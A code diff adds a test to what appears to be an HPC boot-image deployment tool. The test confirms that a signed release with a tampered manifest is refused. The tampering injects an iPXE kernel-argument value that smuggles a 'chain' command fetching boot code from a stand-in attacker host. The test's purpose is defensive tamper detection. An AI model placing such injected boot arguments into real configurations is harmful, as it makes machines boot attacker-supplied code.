@@ -9,6 +9,7 @@ SHA256SUMS, re-signed by another key) are fault cases in tests/faults/test_signe
 
 from __future__ import annotations
 
+import json
 import os
 import sys
 from pathlib import Path
@@ -19,6 +20,7 @@ from deploy_support import write_inventory
 from pack_support import pack_module, run_module, small_root
 
 sys.path.insert(0, str(REPO / "tests" / "unit" / "plugins" / "module_utils"))
+from bootlink_fixtures import tree_snapshot  # noqa: E402  pylint: disable=wrong-import-position
 from signing_keys import SIGNATURE, SUMS, SigningKey, gpgv, sha256sum_check  # noqa: E402  pylint: disable=wrong-import-position
 
 NOT_CHECKED = "hpc_stateless_boot_keyring is not set: releases are published WITHOUT checking their signature"
@@ -99,3 +101,32 @@ def test_deploy_playbook_says_once_without_keyring_and_verifies_with_one(tmp_pat
         assert os.readlink(root / image) == f"images/{image}/1.0"
         assert gpgv(site_key.binary, root / image).returncode == 0
         assert sha256sum_check(root / image).returncode == 0
+
+
+def test_deploy_playbook_refuses_a_published_release_whose_pack_manifest_was_edited(tmp_path, site_key):
+    """Issue 25: 1.0 is signed and published; then its pack output's manifest.json is edited (SHA256SUMS and the
+    signature left alone). A keyring-checked deploy refuses it instead of rendering boot entries from it."""
+    out, root = tmp_path / "out", tmp_path / "tftp"
+    for image in ("alpha", "beta"):
+        rc, signed = run_module("hpc.stateless.sign", version_dir=str(pack(out, image, "1.0", tmp_path)),
+                                key=site_key.fingerprint, gnupghome=str(site_key.home))
+        assert rc == 0, signed.get("msg")
+    keyring = {"hpc_stateless_boot_keyring": str(site_key.armored), "hpc_stateless_boot_signers": [site_key.fingerprint]}
+    first = deploy_playbook(tmp_path, out, root, **keyring)
+    assert first.returncode == 0, first.stdout[-3000:]
+    before = tree_snapshot(root)
+
+    edited = out / "beta" / "1.0" / "manifest.json"
+    manifest = json.loads(edited.read_text())
+    manifest["uncompressed_size"] = 64 * 2**30  # would change every entry's ramdisk_size
+    manifest["initrd"] = {"file": "initrd.img", "kernel_args": "rd.live.image && chain http://evil.invalid/x.ipxe ||"}
+    manifest["verification"] = {"status": "passed"}
+    edited.write_text(json.dumps(manifest, indent=2) + "\n")
+    assert gpgv(site_key.binary, edited.parent).returncode == 0  # the signature itself still verifies
+
+    again = deploy_playbook(tmp_path, out, root, **keyring)
+    assert again.returncode != 0, again.stdout[-3000:]
+    assert f"{edited} does not match its checksum in SHA256SUMS" in again.stdout, again.stdout[-3000:]
+    assert "changed after the image was packed and signed" in again.stdout
+    assert tree_snapshot(root) == before
+    assert not [path for path in root.rglob("*.ipxe") if "evil" in path.read_text()]
